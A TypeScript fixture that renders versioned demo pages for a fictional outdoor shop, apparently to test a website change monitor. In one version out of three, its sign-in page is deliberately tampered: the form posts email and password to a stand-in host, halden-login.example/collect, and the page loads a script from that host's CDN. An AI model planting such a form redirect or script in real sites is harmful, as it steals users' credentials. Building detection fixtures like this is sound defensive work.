import { randomBytes, randomUUID } from "node:crypto";

/** One page of the bundled site. Each version is a real change; each request adds new noise. */
export type DemoPage = { path: string; name: string; render: (version: number) => string };

const pick = <T>(list: readonly T[], version: number): T => list[version % list.length] as T;

function renderPage(title: string, body: string, head = ""): string {
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>${title} · Halden Outdoor</title>
<meta name="csrf-token" content="${randomBytes(16).toString("hex")}">
<link rel="stylesheet" href="/site.css?v=${randomBytes(4).toString("hex")}">
${head}</head>
<body data-request-id="${randomUUID()}">
<header><strong>Halden Outdoor</strong>
<nav><a href="/">Shop</a> <a href="/status">Status</a> <a href="/releases">Releases</a> <a href="/login">Sign in</a></nav></header>
<main>
<h1>${title}</h1>
${body}
</main>
<footer><p>© Halden Outdoor. Rendered in ${10 + Math.floor(Math.random() * 80)} ms at ${new Date().toISOString()}</p></footer>
</body>
</html>
`;
}

const tent = ["389.00 €", "349.00 €", "349.00 €", "389.00 €"];
const lamp = ["59.00 €", "59.00 €", "64.50 €", "59.00 €"];

function shop(version: number): string {
  const stove =
    version % 4 >= 2
      ? "<li><h2>Ember stove</h2><p>Boils a litre in three minutes.</p><p class=price>119.00 €</p></li>"
      : "";
  return renderPage(
    "Spring collection",
    `<p>Everything for a weekend above the tree line. Free returns within 30 days.</p>
<ul class="cards">
<li><h2>Ridge tent</h2><p>Two persons, 1.9 kg, stands in a storm.</p><p class=price>${pick(tent, version)}</p></li>
<li><h2>Fjell lamp</h2><p>200 hours on one charge.</p><p class=price>${pick(lamp, version)}</p></li>
<li><h2>Kvist cup</h2><p>Birch, made to be handed on.</p><p class=price>24.00 €</p></li>
${stove}
</ul>
<p class="quiet">${20 + Math.floor(Math.random() * 60)} people are looking at this page.</p>`,
  );
}

const incidents = [
  "<p class=good>All systems work.</p>",
  "<h2>Payments are slow</h2><p class=bad>Investigating: about one payment in five takes longer than a minute.</p>",
  "<h2>Payments are slow</h2><p class=bad>Identified: our provider has a degraded data centre. Orders are kept.</p>",
  "<h2>Payments are slow</h2><p class=good>Resolved: all queued payments went through.</p>",
];

function status(version: number): string {
  return renderPage(
    "System status",
    `${pick(incidents, version)}
<table><tr><th>Shop</th><td>up</td></tr><tr><th>Search</th><td>up</td></tr>
<tr><th>Payments</th><td>${version % 4 === 1 || version % 4 === 2 ? "degraded" : "up"}</td></tr></table>
<p class="quiet">Updated ${1 + Math.floor(Math.random() * 50)} seconds ago.</p>`,
  );
}

function releases(version: number): string {
  const newest = 12 + (version % 40);
  const entries = Array.from({ length: 8 }, (_, i) => newest - i).map(
    (minor) => `<article><h2>Version 4.${minor}</h2><p>${pick(notes, minor)}</p></article>`,
  );
  return renderPage("App releases", entries.join("\n"));
}
const notes = [
  "Maps load without a network.",
  "Fixed: a route of more than 500 points lost its last one.",
  "New endpoint for partners: <code>/api/v2/routes/export</code>.",
  "The watch shows the next turn earlier.",
  "Security: sessions end when the password changes.",
];

function login(version: number): string {
  const isTampered = version % 3 === 1;
  const nonce = randomBytes(12).toString("base64");
  return renderPage(
    "Sign in",
    `<form action="${isTampered ? "https://halden-login.example/collect" : "/session"}" method="post">
<input type="hidden" name="_csrf" value="${randomBytes(24).toString("base64url")}">
<label>Email <input name="email" type="email"></label>
<label>Password <input name="password" type="password"></label>
<button>Sign in</button>
</form>
<script nonce="${nonce}">window.page = "login";</script>`,
    isTampered ? '<script src="https://cdn.halden-login.example/c.js"></script>\n' : "",
  );
}

export const demoPages: readonly DemoPage[] = [
  { path: "/", name: "Shop front", render: shop },
  { path: "/status", name: "Status page", render: status },
  { path: "/releases", name: "Release notes", render: releases },
  { path: "/login", name: "Sign-in form", render: login },
];

export const demoStyle = `
body { margin: 0; font: 16px/1.55 "DejaVu Sans", sans-serif; color: #22302a; background: #f6f4ee }
header { display: flex; justify-content: space-between; padding: 20px 48px; background: #24483a; color: #fff }
nav a { color: #d8e6dc; margin-left: 20px; text-decoration: none }
main { max-width: 960px; margin: 0 auto; padding: 40px 48px }
h1 { font-size: 34px; margin: 0 0 16px } h2 { font-size: 19px; margin: 0 0 6px }
.cards { display: grid; grid-template-columns: 1fr 1fr; gap: 20px; list-style: none; padding: 0 }
.cards li, article, form { background: #fff; border-radius: 8px; padding: 20px 24px; margin: 0 0 16px }
.price { font-weight: bold; color: #24483a; margin: 8px 0 0 }
.good { color: #1d6b3c } .bad { color: #a3341c } .quiet, footer { color: #7a817b; font-size: 14px }
table { border-collapse: collapse } th, td { text-align: left; padding: 8px 32px 8px 0 }
form { max-width: 360px; display: grid; gap: 14px } label { display: grid; gap: 4px } input { font: inherit; padding: 8px }
button { font: inherit; padding: 10px; border: 0; border-radius: 6px; background: #24483a; color: #fff }
footer { padding: 24px 48px }
`;
